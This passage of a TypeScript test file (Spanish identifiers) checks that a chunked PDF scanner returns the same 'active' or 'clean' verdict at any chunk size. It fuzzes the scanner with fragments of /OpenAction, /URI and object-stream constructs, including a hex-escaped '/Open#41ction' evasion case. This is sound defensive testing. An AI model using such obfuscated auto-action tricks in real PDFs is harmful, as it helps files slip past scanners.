      exportacion('22 0 R', [{ n: 22, cuerpo: URI }]),
      redefinido(),
      dentroDeUnNumero(),
    ];
    for (const pdf of casos) {
      const esperado = await revisarEnTrozos(pdf, 65_536);
      for (const largo of [2, 3, 7, 64, 1000])
        expect([largo, await revisarEnTrozos(pdf, largo)]).toEqual([largo, esperado]);
    }
  });
});

describe('los cortes no cambian el veredicto', () => {
  it('archivos al azar hechos de piezas de /OpenAction y de flujos de objetos (semilla fija)', async () => {
    let semilla = 99;
    const azar = () => (semilla = (semilla * 1_103_515_245 + 12_345) % 2 ** 31) / 2 ** 31;
    const comprimido = (texto: string) =>
      Buffer.concat([
        latin1('<< /Type /ObjStm /N 2 /First 9 /Filter /FlateDecode >>\nstream\n'),
        deflateSync(latin1(texto)),
        latin1('\nendstream\n'),
      ]);
    const piezas: Buffer[] = [
      ...[
        '1 0 obj\n',
        '6 0 obj\n',
        '16 0 obj\n',
        '5 %c\n0 obj',
        'stream\n',
        'endstream',
        'trailer',
        '(',
        ')',
      ],
      ...['\\', '<', '>', '<<', '>>', '%', '\n', ' ', '/Name', 'obj', '7', '6', ' 0 R', 'x', '/OpenAction'],
      ...['/S', '/GoTo', '/URI', '/Next', '[', ']', 'null', '/Open#41ction'],
    ].map(latin1);
    piezas.push(
      comprimido('6 0 1 30 << /S /GoTo /D [1 0 R /Fit] >> << /OpenAction 6 0 R >>'),
      comprimido('6 0 7 9 << /S /URI >> [1 0 R]'),
      comprimido('6 x'),
    );
    const vistos = new Set<VeredictoPdf>();
    for (let k = 0; k < 300; k++) {
      const partes: Buffer[] = [latin1('%PDF-1.7\n')];
      for (let p = 0; p < 60; p++) partes.push(piezas[Math.floor(azar() * piezas.length)]!);
      const pdf = Buffer.concat(partes);
      const deAUno = await revisarEnTrozos(pdf, 1);
      const largo = 1 + Math.floor(azar() * 40);
      expect([k, await revisarEnTrozos(pdf, largo)]).toEqual([k, deAUno]);
      vistos.add(deAUno);
    }
    expect([...vistos].sort()).toEqual(['activo', 'limpio']);
  });
});
